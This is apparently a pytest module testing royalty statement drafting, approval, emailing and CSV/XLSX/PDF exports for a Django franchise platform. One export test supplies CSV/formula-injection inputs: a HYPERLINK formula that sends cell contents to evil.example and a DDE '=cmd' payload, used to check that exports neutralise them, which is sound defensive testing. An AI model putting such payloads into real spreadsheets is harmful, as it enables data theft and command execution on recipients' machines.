"""Monthly statements: what counts in the base, idempotent drafting, the approval freeze, the
e-mail sent once, exports, and the beat task that drafts per network."""

from __future__ import annotations

import io
import re
from decimal import Decimal

import pytest
from django.core import mail
from django_tenants.utils import tenant_context

from franchise_platform.payments.models import RefundStatus
from franchise_platform.royalties.errors import RoyaltyError
from franchise_platform.royalties.exports import statement_csv, statement_pdf, statement_xlsx
from franchise_platform.royalties.models import RoyaltyStatement, StatementStatus
from franchise_platform.royalties.services import (
    statement_approve,
    statement_draft,
    statement_send,
    statements_draft_closed_month,
)
from franchise_platform.security.models import AuditEntry

from .helpers import msk, partner_with_shop, pay, refund, set_rule

pytestmark = pytest.mark.django_db

NOV = msk(2026, 11, 1).date()
AFTER_NOV = msk(2026, 12, 2)


@pytest.fixture
def account(in_network):
    account = partner_with_shop("ИП Петров «Квест»")
    set_rule(account.partner, kind="percent", percent=Decimal("10"), minimum=Decimal("100"))
    return account


def test_the_base_is_the_months_real_payments_minus_its_finished_refunds(account):
    early = pay(account, "1000.00", msk(2026, 11, 1, 0, 5))  # just inside November (MSK)
    pay(account, "2500.00", msk(2026, 11, 30, 23, 55))
    pay(account, "9999.00", msk(2026, 11, 10), is_test=True)  # test payments never count
    pay(account, "700.00", msk(2026, 10, 31, 23, 59))  # October
    pay(account, "800.00", msk(2026, 12, 1, 0, 0))  # December
    refund(early, "300.00", msk(2026, 11, 20))
    refund(early, "200.00", msk(2026, 11, 21), status=RefundStatus.FAILED)  # not returned
    october = pay(account, "400.00", msk(2026, 10, 15))
    refund(october, "150.00", msk(2026, 11, 3))  # a refund in November lowers November

    statement = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)

    assert statement.turnover == Decimal("3500.00")
    assert statement.refunds == Decimal("450.00")
    assert statement.base == Decimal("3050.00")
    assert statement.amount == Decimal("305.00")
    assert statement.rule_snapshot["kind"] == "percent"
    assert statement.rule_snapshot["percent"] == "10.00"
    kinds = sorted((line.kind, line.amount) for line in statement.lines.all())
    assert kinds == [
        ("payment", Decimal("1000.00")),
        ("payment", Decimal("2500.00")),
        ("refund", Decimal("-300.00")),
        ("refund", Decimal("-150.00")),
    ]


def test_a_refund_of_a_test_payment_never_counts(account):
    test_payment = pay(account, "5000.00", msk(2026, 11, 5), is_test=True)
    refund(test_payment, "5000.00", msk(2026, 11, 6))
    statement = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)
    assert statement.base == Decimal("0.00")
    assert statement.amount == Decimal("100.00")  # the minimum


def test_drafting_again_recomputes_the_draft_and_keeps_one_statement(account):
    pay(account, "1000.00", msk(2026, 11, 5))
    first = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)
    assert first.amount == Decimal("100.00")
    pay(account, "5000.00", msk(2026, 11, 6))  # a late payment (reconciliation) of November

    second = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)

    assert second.pk == first.pk
    assert RoyaltyStatement.objects.filter(partner=account.partner).count() == 1
    assert second.base == Decimal("6000.00") and second.amount == Decimal("600.00")
    assert second.lines.count() == 2


def test_an_approved_statement_is_frozen(account, owner_a):
    pay(account, "1000.00", msk(2026, 11, 5))
    statement = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)
    statement_approve(statement_id=statement.pk, actor=owner_a.email)
    pay(account, "5000.00", msk(2026, 11, 6))
    set_rule(account.partner, kind="fixed", fixed_amount=Decimal("99999"))

    again = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)

    again.refresh_from_db()
    assert again.status == StatementStatus.APPROVED
    assert again.base == Decimal("1000.00") and again.amount == Decimal("100.00")
    assert again.rule_snapshot["kind"] == "percent"
    assert again.lines.count() == 1
    entry = AuditEntry.objects.get(action="royalty.approve")
    assert entry.actor == owner_a.email and entry.object_id == str(statement.pk)


def test_a_month_not_yet_over_is_not_drafted(account):
    with pytest.raises(RoyaltyError) as caught:
        statement_draft(partner_id=account.partner_id, period=NOV, now=msk(2026, 11, 30, 23))
    assert caught.value.code == "open_period"
    assert not RoyaltyStatement.objects.exists()


def test_a_partner_without_a_rule_gets_no_statement(in_network):
    account = partner_with_shop()
    pay(account, "1000.00", msk(2026, 11, 5))
    assert statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV) is None
    assert statements_draft_closed_month(now=AFTER_NOV) == 0


def test_tiers_rule_over_a_month(in_network):
    account = partner_with_shop()
    set_rule(account.partner, kind="tiers", tiers=[("0", "6"), ("500000", "4")])
    pay(account, "600000.00", msk(2026, 11, 5))
    statement = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)
    assert statement.amount == Decimal("34000.00")
    assert statement.rule_snapshot["tiers"] == [
        {"from": "0.00", "percent": "6.00"},
        {"from": "500000.00", "percent": "4.00"},
    ]


def test_the_approved_statement_is_mailed_once_with_its_pdf(account, owner_a):
    pay(account, "1000.00", msk(2026, 11, 5))
    statement = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)
    with pytest.raises(RoyaltyError):
        statement_send(statement_id=statement.pk, actor=owner_a.email)  # still a draft
    assert mail.outbox == []
    statement_approve(statement_id=statement.pk, actor=owner_a.email)

    assert statement_send(statement_id=statement.pk, actor=owner_a.email) is True
    assert statement_send(statement_id=statement.pk, actor=owner_a.email) is False

    assert len(mail.outbox) == 1
    message = mail.outbox[0]
    assert message.to == ["partner@example.com"]
    assert "11.2026" in message.subject
    (name, content, mimetype) = message.attachments[0]
    assert mimetype == "application/pdf" and content.startswith(b"%PDF")
    statement.refresh_from_db()
    assert statement.sent_to == "partner@example.com" and statement.sent_at is not None


def test_without_an_email_nothing_is_sent_and_the_reason_is_named(in_network, owner_a):
    account = partner_with_shop()
    set_rule(account.partner, kind="fixed", fixed_amount=Decimal("1000"), email="")
    statement = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)
    statement_approve(statement_id=statement.pk, actor=owner_a.email)
    with pytest.raises(RoyaltyError) as caught:
        statement_send(statement_id=statement.pk, actor=owner_a.email)
    assert caught.value.code == "no_email" and mail.outbox == []


EVIL = '=HYPERLINK("https://evil.example/?"&A1,"x")'


def test_exports_neutralise_formulas_and_keep_money_exact(in_network):
    from openpyxl import load_workbook

    account = partner_with_shop("=cmd|' /C calc'!A0")
    set_rule(account.partner, kind="percent", percent=Decimal("10"))
    pay(account, "1234.50", msk(2026, 11, 5), title=EVIL)
    pay(account, "10.00", msk(2026, 11, 6), title="Квест\x07\x1b с управляющими символами")
    statement = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)

    text = statement_csv(statement)
    assert "'=HYPERLINK" in text and "'=cmd" in text
    assert "\n=" not in text and ",=" not in text
    assert "124.45" in text and "1234.50" in text

    book = load_workbook(io.BytesIO(statement_xlsx(statement)))
    cells = [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    assert EVIL in [c.value for c in cells]  # kept as text, never evaluated
    amounts = [c for c in cells if c.data_type == "n" and c.number_format == "#,##0.00"]
    assert {Decimal(str(c.value)) for c in amounts} >= {Decimal("1244.50"), Decimal("1234.50")}
    assert "Квест с управляющими символами" in [c.value for c in cells]


def test_the_pdf_opens_and_names_the_partner(in_network):
    from reportlab.pdfbase import pdfmetrics

    account = partner_with_shop("ООО «Кириллица»")
    set_rule(account.partner, kind="percent", percent=Decimal("10"))
    pay(account, "1000.00", msk(2026, 11, 5), title="<b>Квест</b> & co")
    statement = statement_draft(partner_id=account.partner_id, period=NOV, now=AFTER_NOV)

    pdf = statement_pdf(statement)

    assert pdf.startswith(b"%PDF-") and pdf.rstrip().endswith(b"%%EOF")
    assert len(re.findall(rb"/Type /Page[^s]", pdf)) >= 1
    assert "DejaVuSans" in pdfmetrics.getRegisteredFontNames()  # Cyrillic glyphs embedded
    assert b"/ToUnicode" in pdf  # the text can be extracted
    assert _pdf_info(pdf, b"Author") == "ООО «Кириллица»"


def _pdf_info(pdf: bytes, key: bytes) -> str:
    """A text string of the PDF's info dictionary (UTF-16BE with BOM, octal escapes)."""
    raw = re.search(rb"/" + key + rb" \((.*?)(?<!\\)\)", pdf, re.S)
    assert raw is not None
    body = re.sub(rb"\\([0-7]{1,3})", lambda m: bytes([int(m[1], 8)]), raw[1])
    body = re.sub(rb"\\(.)", rb"\1", body)
    return body[2:].decode("utf-16-be") if body.startswith(b"\xfe\xff") else body.decode()


def test_the_beat_task_drafts_the_closed_month_in_every_network(net_a, net_b, django_db_blocker):
    from unittest import mock

    from franchise_platform.royalties import tasks

    with tenant_context(net_a.network):
        account = partner_with_shop()
        set_rule(account.partner, kind="fixed", fixed_amount=Decimal("500"))
    schemas = []

    def run_here() -> None:
        from django.db import connection

        schemas.append(connection.schema_name)
        tasks.royalties_draft_network.run()

    with mock.patch.object(tasks.royalties_draft_network, "delay", side_effect=run_here):
        assert tasks.royalties_draft_all_networks.run() >= 2
    assert net_a.network.schema_name in schemas and net_b.network.schema_name in schemas
    with tenant_context(net_a.network):
        drafted = RoyaltyStatement.objects.get(partner=account.partner)
        assert drafted.amount == Decimal("500.00") and drafted.status == "draft"
    with tenant_context(net_b.network):
        assert not RoyaltyStatement.objects.exists()
